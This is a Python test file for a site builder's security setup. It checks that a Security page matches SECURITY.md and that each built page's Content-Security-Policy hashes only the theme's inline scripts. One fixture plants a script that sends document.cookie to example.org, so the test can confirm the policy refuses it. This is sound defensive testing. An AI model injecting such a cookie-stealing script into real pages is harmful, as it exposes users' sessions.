"""The page *Security* and ``SECURITY.md`` (issue 29), and the policy every built page carries."""

from __future__ import annotations

import re

from helpers import ROOT

from pokerlaws.edition.corpus import default_corpus
from pokerlaws.site.build import SECURITY_PAGE, nav
from pokerlaws.site.policy import inline_scripts


def _plain(text: str) -> list[str]:
    """The paragraphs of *text* without its title, its anchors and the line naming the other copy."""
    text = re.sub(r" \{ #[a-z-]+ \}", "", text)
    return [p for p in text.split("\n\n")[1:] if "The same text is" not in p]


def test_the_security_page_is_in_the_navigation_and_says_what_each_input_may_do() -> None:
    assert {"Security": SECURITY_PAGE} in nav(default_corpus())
    page = (ROOT / "docs" / SECURITY_PAGE).read_text(encoding="utf-8")
    for heading in ("## A law file is code", "## A record of play", "## A tree given to `cite-check`", "## A record pasted on *Try it*"):
        assert heading in page
    assert "refused" in page and "Landlock" in page and "Content-Security-Policy" in page


def test_security_md_is_the_page_word_for_word() -> None:
    page = (ROOT / "docs" / SECURITY_PAGE).read_text(encoding="utf-8")
    assert _plain((ROOT / "SECURITY.md").read_text(encoding="utf-8")) == _plain(page)


def test_every_built_page_has_the_policy_first_and_it_allows_each_inline_script(built_site) -> None:
    import base64
    import hashlib

    pages = sorted(built_site.root.rglob("*.html"))
    assert len(pages) > 100
    policies = set()
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head = text.partition("<head>")[2]
        first = re.match(r'\s*<meta charset="[^"]+">\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
        assert first, f"{page}: the policy is not first in the head"
        policies.add(first.group(1))
        for script in inline_scripts(text):
            digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode("ascii")
            assert f"'sha256-{digest}'" in first.group(1), page
    assert len(policies) == 1  # one policy: instant navigation keeps the first page's


def _page(scripts: str, depth: str = "..") -> str:
    """A page as Material writes it (its scope script, its tabs script), with *scripts* in its body."""
    scope = (
        f'__md_scope=new URL("{depth}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
        "__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+\".\"+e)),"
        "__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+\".\"+e,JSON.stringify(_))}catch(e){}}"
    )
    tabs = 'var target=document.getElementById(location.hash.slice(1));target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
    return f'<!doctype html><html><head><meta charset="utf-8"><script>{scope}</script></head><body><p>x</p>{scripts}<script>{tabs}</script></body></html>'


def test_a_foreign_inline_script_in_a_page_gets_no_hash(tmp_path) -> None:
    # every inline script found in the built pages was hashed into the policy, so a script that
    # slipped into a page (through a plugin, a template, unsanitised content) was blessed by it
    import base64
    import hashlib

    from pokerlaws.site.policy import apply_policy

    def digest(script: str) -> str:
        return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode("ascii") + "'"

    (tmp_path / "a").mkdir()
    (tmp_path / "index.html").write_text(_page("", "."), encoding="utf-8")
    (tmp_path / "a" / "index.html").write_text(_page("<script>fetch('https://example.org/?'+document.cookie)</script>"), encoding="utf-8")
    assert apply_policy(tmp_path) == 2
    text = (tmp_path / "a" / "index.html").read_text(encoding="utf-8")
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text).group(1)
    scripts = inline_scripts(text)
    assert len(scripts) == 3
    foreign = [s for s in scripts if "fetch(" in s]
    assert digest(foreign[0]) not in csp
    for theirs in scripts:  # the theme's, at either depth, are allowed
        if theirs not in foreign:
            assert digest(theirs) in csp
    assert csp.count("'sha256-") == 3  # the scope script at two depths, and the tabs script
